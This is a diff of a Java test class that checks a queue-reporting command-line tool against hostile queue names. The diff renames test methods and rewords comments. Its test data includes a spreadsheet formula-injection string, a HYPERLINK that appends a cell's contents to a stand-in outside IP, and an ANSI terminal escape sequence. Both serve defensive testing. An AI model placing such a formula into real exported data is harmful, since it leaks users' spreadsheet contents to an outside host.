@@ -71,10 +71,10 @@ class HostileNameTest {
         Path contract = folder.resolve("contract.yaml");
         if (!Files.exists(contract)) {
             Files.writeString(contract, contract(HostileNames.ALL));
-            // A bridge sends many requests for each level, and would come up against the rate limit.
+            // A bridge sends many requests per service level and would reach the rate limit.
             Files.writeString(folder.resolve("few.yaml"), contract(HostileNames.ALL.subList(9, 13)));
         }
-        // Two days will do: each name stands there as it would in a month.
+        // Two days are enough: each name occurs as in a month.
         String days = command.startsWith("report") && !command.contains("--replay")
                 ? " --from 2024-01-01 --to 2024-01-02"
                 : "";
@@ -132,7 +132,7 @@ class HostileNameTest {
                 "contract init",
                 "contract validate contract.yaml"
             })
-    void nothingHiddenComesOut(String command) throws IOException {
+    void outputHasNoHiddenCharacters(String command) throws IOException {
         SmallJvm.Run run = run(command);
 
         Harmless.text(run.data(), command);
@@ -141,7 +141,7 @@ class HostileNameTest {
 
     @ParameterizedTest
     @ValueSource(strings = {"report", "report --contract contract.yaml", "check --contract contract.yaml", "queues"})
-    void terminalIsSentColoursOnly(String command) throws IOException {
+    void terminalGetsOnlyColours(String command) throws IOException {
         run(command);
         SmallJvm.Run run = jvm.runAtTerminal(folder, platform.environment(), command.split(" "));
 
@@ -188,7 +188,7 @@ class HostileNameTest {
                         HostileNames.ALL.stream().map(HostileNameTest::encoded).toList());
     }
 
-    /** What is left of a text in UTF-8. */
+    /** The text after a round trip through UTF-8. */
     private static String encoded(String text) {
         return new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8);
     }
@@ -210,7 +210,7 @@ class HostileNameTest {
     }
 
     @Test
-    void linesOfJsonKeepEveryName() throws IOException {
+    void ndjsonKeepsEveryName() throws IOException {
         JsonMapper mapper = JsonMapper.builder().build();
         List<String> names = run("report --format ndjson")
                 .out()
@@ -223,7 +223,7 @@ class HostileNameTest {
 
     @ParameterizedTest
     @ValueSource(strings = "report --contract contract.yaml --format markdown")
-    void markdownHasNoMarkupOfAName(String command) throws IOException {
+    void markdownEscapesEveryName(String command) throws IOException {
         String markdown = Harmless.text(run(command).data(), command);
         Node document = Parser.builder()
                 .extensions(List.of(TablesExtension.create(), AutolinkExtension.create()))
@@ -252,7 +252,7 @@ class HostileNameTest {
             }
         });
 
-        // What a mail address is, each reader decides for itself; this one takes nearly anything with an @ in it.
+        // Markdown readers differ on mail addresses; this one takes nearly anything with an @.
         found.removeIf(link -> link.startsWith("mailto:"));
         assertThat(found).isEmpty();
     }
@@ -323,7 +323,7 @@ class HostileNameTest {
     }
 
     @Test
-    void recordingKeepsToItsFolder() throws IOException {
+    void recordingStaysInItsFolder() throws IOException {
         run("report --record kept");
 
         assertThat(Harmless.files(folder))
@@ -334,7 +334,7 @@ class HostileNameTest {
     }
 
     @Test
-    void contractBegunFromHostileQueuesIsReadAgain() throws IOException {
+    void contractInitWithHostileQueuesIsValid() throws IOException {
         run("contract init -o begun.yaml");
         run("contract validate begun.yaml");
 
@@ -342,7 +342,7 @@ class HostileNameTest {
     }
 
     @Test
-    void namesAskedForAreFound() throws IOException {
+    void queuesAreFoundByHostileNames() throws IOException {
         for (String name : List.of("=HYPERLINK(\"http://198.51.100.1/?\"&A1,\"Sales\")", "\u001b[31mred\u001b[0m")) {
             SmallJvm.Run run = jvm.run(folder, platform.environment(), "queues", "--queue", name, "--format", "json");
 
